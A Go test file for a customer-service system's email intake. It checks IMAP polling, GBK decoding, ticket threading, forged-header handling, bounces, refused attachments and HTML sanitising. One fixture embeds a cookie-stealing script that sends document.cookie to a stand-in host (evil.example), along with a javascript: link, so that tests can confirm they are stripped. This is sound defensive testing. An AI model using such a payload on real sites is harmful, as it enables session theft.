package email_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"mime"
	"net/http"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/careloop/careloop/internal/email"
	"github.com/careloop/careloop/internal/testkit"
)

const onePixelPNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

func gbkTB(t testing.TB, s string) []byte {
	t.Helper()
	b, err := simplifiedchinese.GBK.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// gbkMail is a mail written by a Chinese mail client: GBK subject and
// sender name (RFC 2047), a GBK body, a photo and a program attached.
func gbkMail(t testing.TB) string {
	word := func(s string) string { return "=?GBK?B?" + base64.StdEncoding.EncodeToString(gbkTB(t, s)) + "?=" }
	return "From: " + word("张三") + " <Zhang@Example.cn>\r\nTo: service@huaqiang.cn\r\nSubject: " + word("打印机黑屏，请尽快上门") + "\r\n" +
		"Message-ID: <a1@example.cn>\r\nDate: Mon, 2 Mar 2026 09:00:00 +0800\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/plain; charset=GBK\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString(gbkTB(t, "开机后一直黑屏，型号 HQ-200。\r\n")) + "\r\n" +
		"--b1\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"" + mime.BEncoding.Encode("utf-8", "故障照片.png") + "\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + onePixelPNG + "\r\n" +
		"--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"setup.exe\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte("MZ\x90\x00 not really a program")) + "\r\n" +
		"--b1--\r\n"
}

// htmlMail carries a script and a tracking pixel.
func htmlMail() string {
	return "From: =?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte("李四")) + "?= <li@example.cn>\r\nTo: service@huaqiang.cn\r\n" +
		"Subject: =?utf-8?Q?=E6=8D=A2=E8=B4=A7=E7=94=B3=E8=AF=B7?=\r\nMessage-ID: <b1@example.cn>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=utf-8\r\n\r\n" +
		`<p>收到的货有<b>划痕</b>，要求换货。</p><script>fetch("https://evil.example/?c="+document.cookie)</script>` +
		`<img src="https://track.example.com/open.gif?u=42" width="1" height="1"><a href="javascript:alert(1)">点我</a>` + "\r\n"
}

func TestIMAPMailBecomesTicketsOnce(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		autoReply := textMail("Wang <wang@example.cn>", "=?utf-8?B?"+base64.StdEncoding.EncodeToString([]byte("自动回复：我正在休假"))+"?=",
			"<c1@example.cn>", "我 3 月 9 日回来。", "Auto-Submitted: auto-replied")
		noID := textMail("zhao@example.cn", "no id", "", "没有 Message-ID 的邮件")
		mails := []string{gbkMail(t), htmlMail(), autoReply, noID, gbkMail(t), noID}
		for _, m := range mails {
			k.box.deliver(t, m)
		}
		rep := k.poll(t)
		if rep.Fetched != 6 || rep.Taken != 4 || rep.Duplicates != 2 || rep.Refused != 0 {
			t.Fatalf("first poll: %+v", rep)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM tickets`); n != 3 {
			t.Fatalf("%d tickets, want 3 (GBK mail, HTML mail, mail without Message-ID)", n)
		}

		// The GBK mail: a customer found by nobody, so created from the
		// display name; the subject and the body decoded.
		var ticketID, customerID int64
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT ticket_id, customer_id FROM email_inbound WHERE message_id = '<a1@example.cn>'`).
			Scan(&ticketID, &customerID); err != nil {
			t.Fatal(err)
		}
		tkt, err := k.App.Tickets.Get(ctx, nil, ticketID)
		if err != nil {
			t.Fatal(err)
		}
		if tkt.Subject != "打印机黑屏，请尽快上门" || tkt.Channel != "email" || !strings.Contains(tkt.Description, "开机后一直黑屏，型号 HQ-200。") ||
			tkt.CustomerID != customerID || tkt.CustomerName != "张三" {
			t.Fatalf("ticket: %+v", tkt)
		}
		var custEmail string
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT email FROM customers WHERE id = $1`, customerID).Scan(&custEmail); err != nil || custEmail != "zhang@example.cn" {
			t.Fatalf("customer email %q %v", custEmail, err)
		}
		msgs, err := k.App.Tickets.Messages(ctx, nil, ticketID)
		if err != nil || len(msgs) != 1 || !msgs[0].FromCustomer {
			t.Fatalf("messages: %+v %v", msgs, err)
		}
		if len(msgs[0].Attachments) != 1 || msgs[0].Attachments[0].Filename != "故障照片.png" || msgs[0].Attachments[0].ContentType != "image/png" {
			t.Fatalf("attachments: %+v", msgs[0].Attachments)
		}
		events, err := k.App.Tickets.Events(ctx, ticketID)
		if err != nil {
			t.Fatal(err)
		}
		var kinds []string
		for _, e := range events {
			kinds = append(kinds, e.Kind)
		}
		if got := strings.Join(kinds, " "); !strings.HasPrefix(got, "ticket.created") || strings.Contains(got, "ticket.customer_message") {
			t.Fatalf("events %s: the mail that opens a ticket is announced once, by ticket.created", got)
		}
		views, err := k.App.Mailboxes.MailOf(ctx, []int64{msgs[0].ID})
		if err != nil {
			t.Fatal(err)
		}
		v := views[msgs[0].ID]
		if len(v.Refused) != 1 || v.Refused[0].Name != "setup.exe" || !strings.HasPrefix(v.Refused[0].Key, "attachments.") {
			t.Fatalf("the program is not listed as refused: %+v", v)
		}

		// The HTML mail: sanitised, the pixel held back.
		var html string
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT b.html FROM email_bodies b JOIN email_inbound i ON i.ticket_id = (SELECT ticket_id FROM ticket_messages WHERE id = b.ticket_message_id)
			WHERE i.message_id = '<b1@example.cn>'`).Scan(&html); err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{"<script", "document.cookie", ` src="https://track`, "javascript:"} {
			if strings.Contains(html, bad) {
				t.Errorf("stored HTML holds %q: %s", bad, html)
			}
		}
		if !strings.Contains(html, "<b>划痕</b>") || !strings.Contains(html, `data-src="https://track.example.com/open.gif?u=42"`) {
			t.Errorf("stored HTML lost its content: %s", html)
		}

		// The auto-reply: recorded, never a ticket, a customer or an answer.
		var outcome string
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT outcome FROM email_inbound WHERE message_id = '<c1@example.cn>'`).Scan(&outcome); err != nil || outcome != email.OutcomeAutoReply {
			t.Fatalf("auto-reply recorded as %q %v", outcome, err)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM customers WHERE email = 'wang@example.cn'`); n != 0 {
			t.Fatal("the auto-reply made a customer")
		}
		// Nothing answers mail taken in but the one acknowledgement of each
		// new ticket (acknowledge.go); the auto-reply's sender gets none.
		if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE recipient LIKE '%example.cn' AND kind <> 'ticket.acknowledgement'`); n != 0 {
			t.Fatalf("%d messages to customers were queued: nothing answers mail taken in", n)
		}
		if n := k.count(t, `SELECT COUNT(DISTINCT entity_id) FROM outbox WHERE kind = 'ticket.acknowledgement'`); n != 3 {
			t.Fatalf("%d tickets acknowledged, want the 3 new ones", n)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE recipient = 'wang@example.cn'`); n != 0 {
			t.Fatal("the auto-reply was answered")
		}

		// Polling again: nothing new. A renumbered folder (new
		// UIDVALIDITY) is read again, and changes nothing.
		before := k.count(t, `SELECT COUNT(*) FROM ticket_messages`) + 1000*k.count(t, `SELECT COUNT(*) FROM email_inbound`)
		if rep := k.poll(t); rep.Fetched != 0 {
			t.Fatalf("second poll read %d mails", rep.Fetched)
		}
		k.box.renumber(t, mails)
		if rep := k.poll(t); rep.Fetched != 6 || rep.Duplicates != 6 || rep.Taken != 0 {
			t.Fatalf("after UIDVALIDITY changed: %+v", rep)
		}
		after := k.count(t, `SELECT COUNT(*) FROM ticket_messages`) + 1000*k.count(t, `SELECT COUNT(*) FROM email_inbound`)
		if after != before || k.count(t, `SELECT COUNT(*) FROM tickets`) != 3 {
			t.Fatalf("reading the mails again changed something: %d → %d", before, after)
		}
	})
}

// sentTo delivers the outbox and returns the mail the SMTP relay received
// for address (staff notices go out alongside; acknowledgements are skipped).
func sentTo(t *testing.T, k *intakeKit, address string) *email.Mail {
	t.Helper()
	for {
		n, err := k.App.Outbox.RunOnce(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if n == 0 {
			break
		}
	}
	k.relay.mu.Lock()
	defer k.relay.mu.Unlock()
	for _, raw := range k.relay.mails {
		m, err := email.Parse(bytes.NewReader(raw), 0)
		if err != nil {
			t.Fatal(err)
		}
		// A new ticket's acknowledgement (Auto-Submitted) is not the
		// agent's mail the tests look at (acknowledge_test.go has it).
		if strings.Contains(m.Header("To"), address) && m.Header("Auto-Submitted") == "" {
			return m
		}
	}
	t.Fatalf("no mail to %s reached the relay (%d mails)", address, len(k.relay.mails))
	return nil
}

func (k *intakeKit) inbound(t *testing.T, messageID string) (outcome, reason string, ticketID int64) {
	t.Helper()
	var tid *int64
	if err := k.App.DB.R.QueryRowContext(context.Background(), `SELECT outcome, reason, ticket_id FROM email_inbound WHERE message_id = $1`, messageID).
		Scan(&outcome, &reason, &tid); err != nil {
		t.Fatalf("inbound %s: %v", messageID, err)
	}
	if tid != nil {
		ticketID = *tid
	}
	return outcome, reason, ticketID
}

func TestIMAPRepliesThreadToTheSendersOwnTicketOnly(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		k.box.deliver(t, textMail("张三 <zhang@example.cn>", "打印机黑屏", "<z1@example.cn>", "开机后一直黑屏。"))
		k.box.deliver(t, textMail("李四 <li@example.cn>", "咨询保修", "<l1@example.cn>", "保修期多久？"))
		k.poll(t)
		_, _, first := k.inbound(t, "<z1@example.cn>")
		_, _, liTicket := k.inbound(t, "<l1@example.cn>")
		t1, err := k.App.Tickets.Get(ctx, nil, first)
		if err != nil {
			t.Fatal(err)
		}

		// The agent answers; the answer goes out by mail with its own
		// Message-ID, threaded under the customer's.
		r := k.Do(testkit.Request{Method: "POST", Path: fmt.Sprintf("/api/v1/tickets/%d/messages", first), Token: k.admin,
			Body: map[string]any{"body": "您好，工程师明天上午上门。"}})
		if r.Status != http.StatusCreated && r.Status != http.StatusOK {
			t.Fatalf("reply: %d %s", r.Status, r.Body)
		}
		out := sentTo(t, k, "zhang@example.cn")
		if len(out.InReplyTo) != 1 || out.InReplyTo[0] != "<z1@example.cn>" || out.MessageID == "" {
			t.Fatalf("the agent's mail is not threaded: %q %q", out.MessageID, out.InReplyTo)
		}

		// The customer answers it: appended, the quote left out.
		k.box.deliver(t, textMail("张三 <zhang@example.cn>", "Re: 打印机黑屏", "<z2@example.cn>",
			"明天上午可以，谢谢。\n\n在 2026年3月2日 09:30，华强售后 写道：\n> 您好，工程师明天上午上门。", "In-Reply-To: "+out.MessageID, "References: <z1@example.cn> "+out.MessageID))
		// Another customer forges the header: a new ticket of their own.
		k.box.deliver(t, textMail("李四 <li@example.cn>", "Re: 打印机黑屏", "<l2@example.cn>", "我也要看看这张工单。", "In-Reply-To: "+out.MessageID))
		// The ticket number in the subject, no headers: appended to the sender's own ticket only.
		k.box.deliver(t, textMail("张三 <zhang@example.cn>", "回复：[#"+t1.Number+"] 还是黑屏", "<z3@example.cn>", "换了电源还是黑屏。"))
		k.box.deliver(t, textMail("李四 <li@example.cn>", "[#"+t1.Number+"] 看看", "<l3@example.cn>", "随便看看。"))
		// An out-of-office answer to the agent: recorded against the ticket, nothing more.
		k.box.deliver(t, textMail("张三 <zhang@example.cn>", "Out of Office: 打印机黑屏", "<z4@example.cn>", "I am away.", "In-Reply-To: "+out.MessageID, "Auto-Submitted: auto-replied"))
		before := k.count(t, `SELECT COALESCE(MAX(id), 0) FROM outbox`)
		k.poll(t)

		if o, _, tid := k.inbound(t, "<z2@example.cn>"); o != email.OutcomeAppend || tid != first {
			t.Fatalf("the customer's answer: %s ticket %d, want append to %d", o, tid, first)
		}
		o, reason, forged := k.inbound(t, "<l2@example.cn>")
		if o != email.OutcomeTicket || forged == first || forged == 0 || !strings.Contains(reason, "another customer") {
			t.Fatalf("the forged In-Reply-To: %s ticket %d (%s)", o, forged, reason)
		}
		if ft, err := k.App.Tickets.Get(ctx, nil, forged); err != nil || ft.CustomerName != "李四" {
			t.Fatalf("the forged mail's ticket: %+v %v", ft, err)
		}
		if o, _, tid := k.inbound(t, "<z3@example.cn>"); o != email.OutcomeAppend || tid != first {
			t.Fatalf("by subject number: %s ticket %d, want %d", o, tid, first)
		}
		if o, _, tid := k.inbound(t, "<l3@example.cn>"); o != email.OutcomeTicket || tid == first || tid == liTicket {
			t.Fatalf("another customer's subject number: %s ticket %d", o, tid)
		}
		if o, _, tid := k.inbound(t, "<z4@example.cn>"); o != email.OutcomeAutoReply || tid != first {
			t.Fatalf("the out-of-office answer: %s ticket %d", o, tid)
		}
		msgs, err := k.App.Tickets.Messages(ctx, nil, first)
		if err != nil {
			t.Fatal(err)
		}
		var bodies []string
		for _, m := range msgs {
			bodies = append(bodies, m.Body)
		}
		want := []string{"开机后一直黑屏。", "您好，工程师明天上午上门。", "明天上午可以，谢谢。", "换了电源还是黑屏。"}
		if strings.Join(bodies, "|") != strings.Join(want, "|") {
			t.Fatalf("the ticket's thread:\n%q\nwant\n%q", bodies, want)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE kind = 'ticket.reply'`); n != 1 {
			t.Fatalf("%d replies queued; mail taken in answers nothing", n)
		}
		// Mail taken in answers nothing but the acknowledgement of each new
		// ticket (the two of 李四): no answer to the appends or the
		// out-of-office.
		if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE recipient LIKE '%@example.cn' AND id > $1 AND kind <> 'ticket.acknowledgement'`, before); n != 0 {
			t.Fatalf("%d messages to customers were queued by mail taken in", n)
		}
		for _, id := range []int64{forged, first} {
			want := 1
			if id == first {
				want = 0
			}
			if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE kind = 'ticket.acknowledgement' AND id > $1 AND entity_id = $2`, before, fmt.Sprint(id)); n != want {
				t.Fatalf("ticket %d: %d acknowledgements after the first poll, want %d", id, n, want)
			}
		}
		if n := k.count(t, `SELECT COUNT(*) FROM outbox WHERE id > $1 AND kind = 'ticket.acknowledgement'`, before); n != 2 {
			t.Fatalf("%d acknowledgements, want 2 (the two new tickets)", n)
		}

		// The agent's mail bounces: its outbox row is dead with the
		// reason, and the customer's timeline says so.
		bounce := "From: Mail Delivery System <MAILER-DAEMON@mx.example.cn>\r\nTo: service@huaqiang.cn\r\nSubject: Undelivered Mail Returned to Sender\r\n" +
			"Message-ID: <bounce1@mx.example.cn>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"r1\"\r\n\r\n" +
			"--r1\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n" +
			"--r1\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.cn\r\n\r\nFinal-Recipient: rfc822; zhang@example.cn\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 user unknown\r\n" +
			"--r1\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: service@huaqiang.cn\r\nTo: zhang@example.cn\r\nMessage-ID: " + out.MessageID + "\r\nSubject: x\r\n" +
			"--r1--\r\n"
		k.box.deliver(t, bounce)
		k.poll(t)
		if o, reason, tid := k.inbound(t, "<bounce1@mx.example.cn>"); o != email.OutcomeBounce || tid != first || !strings.Contains(reason, "550 5.1.1 user unknown") {
			t.Fatalf("bounce: %s ticket %d %q", o, tid, reason)
		}
		var state, lastErr string
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT state, last_error FROM outbox WHERE kind = 'ticket.reply'`).Scan(&state, &lastErr); err != nil {
			t.Fatal(err)
		}
		if state != "dead" || !strings.Contains(lastErr, "user unknown") {
			t.Fatalf("the bounced reply's outbox row: %s %q", state, lastErr)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM timeline_events WHERE customer_id = $1 AND kind = 'email.bounced'`, t1.CustomerID); n != 1 {
			t.Fatalf("%d bounce lines on the customer's timeline", n)
		}
		if got, _ := k.App.Tickets.Messages(ctx, nil, first); len(got) != 4 {
			t.Fatalf("the bounce changed the thread: %d messages", len(got))
		}
	})
}

func TestIMAPBadMailGetsAClearOutcome(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		huge := textMail("big@example.cn", "30 MB 的照片", "<big@example.cn>", strings.Repeat("照片数据0123456789abcdef\n", 31<<20/29))
		broken := "From: broken@example.cn\r\nTo: service@huaqiang.cn\r\nSubject: broken\r\nMessage-ID: <broken@example.cn>\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: multipart/mixed; boundary=\"never-closed\"\r\nContent-Transfer-Encoding: base64\r\n\r\n--never-closed\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64 at all 设备坏了\r\n"
		var to strings.Builder
		for i := range 10000 {
			if i > 0 {
				to.WriteString(",\r\n ")
			}
			fmt.Fprintf(&to, "user%d@example.org", i)
		}
		many := textMail("many@example.cn", "群发", "<many@example.cn>", "一封发给一万人的邮件", "Cc: "+to.String())
		loop := textMail("service@huaqiang.cn", "我们自己的邮件", "<loop@huaqiang.cn>", "回来了", "X-Careloop-Loop: 1")
		nobody := "To: service@huaqiang.cn\r\nSubject: no sender\r\nMessage-ID: <nobody@example.cn>\r\n\r\n没有发件人\r\n"
		for _, m := range []string{huge, broken, many, loop, nobody} {
			k.box.deliver(t, m)
		}
		customers := k.count(t, `SELECT COUNT(*) FROM customers`)
		rep := k.poll(t)
		if rep.Fetched != 5 || rep.Refused != 2 {
			t.Fatalf("poll: %+v", rep)
		}
		if o, reason, tid := k.inbound(t, "<big@example.cn>"); o != email.OutcomeRejected || tid != 0 || !strings.Contains(reason, "larger than 25 MB (3") {
			t.Fatalf("30 MB mail: %s %d %q", o, tid, reason)
		}
		if o, reason, tid := k.inbound(t, "<broken@example.cn>"); o != email.OutcomeTicket || tid == 0 || !strings.Contains(reason, "broken MIME") {
			t.Fatalf("broken MIME: %s %d %q", o, tid, reason)
		} else if got, _ := k.App.Tickets.Get(ctx, nil, tid); !strings.Contains(got.Description, "设备坏了") {
			t.Fatalf("broken MIME lost its text: %q", got.Description)
		}
		if o, reason, tid := k.inbound(t, "<many@example.cn>"); o != email.OutcomeTicket || tid == 0 || !strings.Contains(reason, "10001 recipients") {
			t.Fatalf("10,000 recipients: %s %d %q", o, tid, reason)
		}
		if o, _, tid := k.inbound(t, "<loop@huaqiang.cn>"); o != email.OutcomeLoop || tid != 0 {
			t.Fatalf("loop: %s %d", o, tid)
		}
		if o, _, tid := k.inbound(t, "<nobody@example.cn>"); o != email.OutcomeRejected || tid != 0 {
			t.Fatalf("no sender: %s %d", o, tid)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM customers`) - customers; n != 2 {
			t.Fatalf("%d customers created, want 2 (the broken mail's and the 10,000 recipients' senders)", n)
		}
		if n := k.count(t, `SELECT COUNT(*) FROM tickets`); n != 2 {
			t.Fatalf("%d tickets, want 2", n)
		}
		// What the administrator sees of the mailbox.
		r := k.Do(testkit.Request{Method: "GET", Path: fmt.Sprintf("/api/v1/mailboxes/%d", k.mailbox.ID), Token: k.admin})
		var mb email.Mailbox
		r.JSON(t, &mb)
		if r.Status != http.StatusOK || mb.Poll == nil || mb.Poll.Refused != 2 || mb.Poll.Taken != 5 || mb.Poll.LastPolledAt == nil || mb.Poll.LastError != "" ||
			len(mb.Poll.RecentRefused) != 2 {
			t.Fatalf("mailbox status: %d %s", r.Status, r.Body)
		}
		if !strings.Contains(string(r.Body), "larger than 25 MB (3") || !strings.Contains(string(r.Body), "30 MB 的照片") {
			t.Fatalf("the refused mail is not explained: %s", r.Body)
		}
	})
}

func TestIMAPPollFailureIsShownAndOthersGoOn(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		k.box.deliver(t, textMail("zhang@example.cn", "你好", "<p1@example.cn>", "在吗"))
		wrong := "not-the-password"
		if _, err := k.App.Mailboxes.Update(ctx, k.mailbox.ID, email.MailboxPatch{IMAPPassword: &wrong}); err != nil {
			t.Fatal(err)
		}
		k.Clock.Advance(61e9)
		reps, err := k.App.Poller.RunOnce(ctx)
		if err != nil || len(reps) != 1 || reps[0].Err == nil {
			t.Fatalf("a wrong password: %+v %v", reps, err)
		}
		mb, err := k.App.Mailboxes.WithStatus(ctx, k.mailbox.ID)
		if err != nil || !strings.Contains(mb.Poll.LastError, "login") || mb.Poll.LastPolledAt == nil {
			t.Fatalf("the failure is not shown: %+v %v", mb.Poll, err)
		}
		// Not due again before its interval; the right password mends it.
		if reps, _ := k.App.Poller.RunOnce(ctx); len(reps) != 0 {
			t.Fatalf("polled again before the interval: %+v", reps)
		}
		right := imapPassword
		if _, err := k.App.Mailboxes.Update(ctx, k.mailbox.ID, email.MailboxPatch{IMAPPassword: &right}); err != nil {
			t.Fatal(err)
		}
		if rep := k.poll(t); rep.Taken != 1 {
			t.Fatalf("after the password was mended: %+v", rep)
		}
		if mb, _ := k.App.Mailboxes.WithStatus(ctx, k.mailbox.ID); mb.Poll.LastError != "" {
			t.Fatalf("the error stayed: %q", mb.Poll.LastError)
		}
	})
}

func TestTwoPollersTakeEachMailOnce(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		const n = 120
		for i := range n {
			k.box.deliver(t, textMail(fmt.Sprintf("c%d@example.cn", i%7), fmt.Sprintf("问题 %d", i), fmt.Sprintf("<m%d@example.cn>", i), "设备坏了"))
		}
		other := email.NewPoller(k.App.DB, k.App.Clock, k.App.Mailboxes, k.App.Intake, nil, email.PollOptions{Name: "second", BatchMails: 7})
		k.Clock.Advance(61e9)
		ctx := context.Background()
		type out struct {
			reps []email.PollReport
			err  error
		}
		done := make(chan out, 2)
		for _, p := range []*email.Poller{k.App.Poller, other} {
			go func() { reps, err := p.RunOnce(ctx); done <- out{reps, err} }()
		}
		taken := 0
		for range 2 {
			o := <-done
			if o.err != nil {
				t.Fatal(o.err)
			}
			for _, r := range o.reps {
				if r.Err != nil {
					t.Fatal(r.Err)
				}
				taken += r.Taken
			}
		}
		// Whichever took the lease first took the mail; the other found it
		// held, or (if it came after) nothing new.
		if taken != n || k.count(t, `SELECT COUNT(*) FROM tickets`) != n || k.count(t, `SELECT COUNT(DISTINCT message_id) FROM email_inbound`) != n {
			t.Fatalf("taken %d, tickets %d", taken, k.count(t, `SELECT COUNT(*) FROM tickets`))
		}
		var owner string
		var lease *string
		if err := k.App.DB.R.QueryRowContext(ctx, `SELECT poll_lease_owner, CAST(poll_lease_until AS TEXT) FROM mailboxes WHERE id = $1`, k.mailbox.ID).
			Scan(&owner, &lease); err != nil || owner != "" || lease != nil {
			t.Fatalf("the lease was not given back: %q %v %v", owner, lease, err)
		}
	})
}

func TestIMAPMailboxTeamAndCategoryGetItsTickets(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		if _, err := k.App.Identity.CreateTeam(ctx, "售后组"); err != nil { // the first team: where unrouted tickets go
			t.Fatal(err)
		}
		mailTeam, err := k.App.Identity.CreateTeam(ctx, "邮件组")
		if err != nil {
			t.Fatal(err)
		}
		cats, err := k.App.Tickets.Categories(ctx)
		if err != nil || len(cats) == 0 {
			t.Fatalf("categories: %v", err)
		}
		if _, err := k.App.Mailboxes.Update(ctx, k.mailbox.ID, email.MailboxPatch{TeamID: email.OptionalID{Set: true, ID: &mailTeam.ID},
			CategoryID: email.OptionalID{Set: true, ID: &cats[0].ID}}); err != nil {
			t.Fatal(err)
		}
		k.box.deliver(t, textMail("zhang@example.cn", "你好", "<t1@example.cn>", "在吗"))
		k.poll(t)
		_, _, id := k.inbound(t, "<t1@example.cn>")
		got, err := k.App.Tickets.Get(ctx, nil, id)
		if err != nil || got.TeamID == nil || *got.TeamID != mailTeam.ID || got.CategoryID == nil || *got.CategoryID != cats[0].ID {
			t.Fatalf("ticket team %v category %v, want %d %d (%v)", got.TeamID, got.CategoryID, mailTeam.ID, cats[0].ID, err)
		}
	})
}

// The answer to a mail goes out from the mailbox the customer wrote to,
// not the default one, and links to the ticket on the portal.
func TestRepliesComeFromTheMailboxTheCustomerWroteTo(t *testing.T) {
	testkit.Each(t, func(t *testing.T, tk *testkit.Kit) {
		k := startIntake(t, tk)
		ctx := context.Background()
		// A second mailbox becomes the default sender; it only sends.
		if _, err := k.App.Mailboxes.Create(ctx, email.MailboxInput{Name: "华强通知", Address: "notice@huaqiang.cn", IsDefault: true,
			SMTP: email.Server{Host: "127.0.0.1", Port: k.relay.port, Security: "none"}}); err != nil {
			t.Fatal(err)
		}
		k.box.deliver(t, textMail("张三 <zhang@example.cn>", "打印机黑屏", "<r1@example.cn>", "开机后一直黑屏。"))
		k.poll(t)
		_, _, id := k.inbound(t, "<r1@example.cn>")
		r := k.Do(testkit.Request{Method: "POST", Path: fmt.Sprintf("/api/v1/tickets/%d/messages", id), Token: k.admin,
			Body: map[string]any{"body": "您好，工程师明天上午上门。"}})
		if r.Status != http.StatusCreated && r.Status != http.StatusOK {
			t.Fatalf("reply: %d %s", r.Status, r.Body)
		}
		out := sentTo(t, k, "zhang@example.cn")
		if out.From != "service@huaqiang.cn" {
			t.Fatalf("the answer came from %s, want the mailbox the customer wrote to", out.From)
		}
		if want := fmt.Sprintf("/portal/tickets/%d", id); !strings.Contains(out.Text, want) {
			t.Fatalf("no portal link %s in:\n%s", want, out.Text)
		}
		// When that mailbox is switched off, the default one answers.
		off := false
		if _, err := k.App.Mailboxes.Update(ctx, k.mailbox.ID, email.MailboxPatch{Active: &off}); err != nil {
			t.Fatal(err)
		}
		k.relay.mu.Lock()
		k.relay.mails = nil
		k.relay.mu.Unlock()
		r = k.Do(testkit.Request{Method: "POST", Path: fmt.Sprintf("/api/v1/tickets/%d/messages", id), Token: k.admin,
			Body: map[string]any{"body": "工程师已出发。"}})
		if r.Status != http.StatusCreated && r.Status != http.StatusOK {
			t.Fatalf("second reply: %d %s", r.Status, r.Body)
		}
		if out := sentTo(t, k, "zhang@example.cn"); out.From != "notice@huaqiang.cn" {
			t.Fatalf("with the mailbox off the answer came from %s, want the default", out.From)
		}
	})
}
